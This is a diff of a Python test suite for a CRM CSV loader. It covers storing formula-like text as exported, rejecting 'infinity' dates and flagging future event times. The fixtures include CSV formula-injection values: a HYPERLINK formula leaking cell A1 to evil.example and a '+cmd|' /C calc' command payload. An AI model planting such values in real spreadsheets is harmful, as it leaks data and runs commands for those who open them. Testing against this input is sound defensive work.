@@ -69,13 +69,17 @@ def _close_before_create_kept(folder: Path) -> None:
     ) == [("C1", "won", "2024-03-01", "2024-02-01"), ("C2", "lost", "2024-01-01", "2024-02-01")]
 
 
-def _formulas_neutralised(folder: Path) -> None:
+def _formulas_stored_as_exported(folder: Path) -> None:
+    # CRM text is stored exactly as exported (issue 14 item 8); spreadsheet writers neutralise.
     assert query(
-        folder, "select owner, name, account from deals where deal_id like 'F%' order by deal_id"
+        folder,
+        "select deal_id, stage, owner, name, account from deals "
+        "where deal_id not like 'G%' order by created_at",
     ) == [
-        ("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'@SUM(1+1)",
-         "'+cmd|' /C calc'!A0"),
-        ("Ann Lee", "Acme - New", "Acme"),
+        ("F1", "Prospecting", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+         "@SUM(1+1)", "+cmd|' /C calc'!A0"),
+        ("F2", "Prospecting", "Ann Lee", "Acme - New", "Acme"),
+        ("+SUM(1)", "=HYPERLINK(\"http://evil.example\")", "-Bob", "\ttab", "Acme"),
     ]  # fmt: skip
 
 
@@ -105,6 +109,42 @@ def _currency_column_and_amount_agree(folder: Path) -> None:
         folder,
         "select deal_id, currency, amount_base from deals where deal_id like 'K%' order by 1",
     ) == [("K2", "EUR", None), ("K3", "EUR", None), ("K4", "CAD", None), ("K6", "USD", 100.0)]
+
+
+def _columns_of_rejects(expected: list[tuple[int, str]]) -> Callable[[Path], None]:
+    def check(folder: Path) -> None:
+        assert (
+            query(
+                folder,
+                "select source_row, column_name from rejected_rows where batch_id = 2 order by 1",
+            )
+            == expected
+        )
+
+    return check
+
+
+def _future_events_dropped(folder: Path) -> None:
+    # The deals load without their future times; the file's snapshot is its latest real event.
+    assert query(
+        folder,
+        "select deal_id, status, created_at::varchar, closed_at::varchar, "
+        "expected_close_date::varchar from deals where deal_id like 'E%' order by 1",
+    ) == [
+        ("E1", "won", "2024-01-05 00:00:00", None, None),
+        ("E2", "open", None, None, None),
+        ("E3", "open", "2024-01-03 00:00:00", None, "2094-06-30"),  # expected: not an event
+    ]
+    assert query(folder, "select snapshot_at::varchar from ingest_batches where batch_id = 2") == [
+        ("2024-01-05 00:00:00",)
+    ]
+    assert query(
+        folder,
+        "select source_row, deal_id, column_name, value, flag from flagged_values order by 1",
+    ) == [
+        (2, "E1", "closed_at", "2094-02-01 00:00:00", "event_in_future"),
+        (3, "E2", "created_at", "2094-01-01 00:00:00", "event_in_future"),
+    ]
 
 
 CASES: dict[str, Outcome] = {
@@ -145,7 +185,7 @@ CASES: dict[str, Outcome] = {
             (4, "closed_at: 2999-12-31 is outside 1980-2100"),  # an open deal's expected close
         ],
     ),
-    "formula_strings.csv": Outcome(0, (2, 0, 0), check=_formulas_neutralised),
+    "formula_strings.csv": Outcome(0, (3, 0, 0), check=_formulas_stored_as_exported),
     # Generated (too big to keep in the repository): one 10 MB cell in the owner column.
     "big_field.csv": Outcome(
         0,
@@ -169,6 +209,24 @@ CASES: dict[str, Outcome] = {
             (8, "amount: '$ 100' is written with $, which is not used for 'EUR'"),
         ],
         check=_currency_column_and_amount_agree,
+    ),
+    # Issue 14 items 2 and 3 (dates): non-finite dates are rejected values; event times after
+    # the file was loaded do not load (nor set snapshot_at) and are flagged event_in_future.
+    "dates_infinity.csv": Outcome(
+        0,
+        (1, 3, 0),
+        [
+            (2, "created_at: 'infinity' is not a finite date"),
+            (3, "closed_at: '-infinity' is not a finite date"),
+            (4, "closed_at: 'Infinity' is not a finite date"),  # an open deal's expected close
+        ],
+        check=_columns_of_rejects([(2, "created_at"), (3, "closed_at"), (4, "closed_at")]),
+    ),
+    "future_events.csv": Outcome(
+        0,
+        (3, 0, 0),
+        check=_future_events_dropped,
+        warning="2 event times after the file was loaded (first: line 2, closed_at",
     ),
 }
 
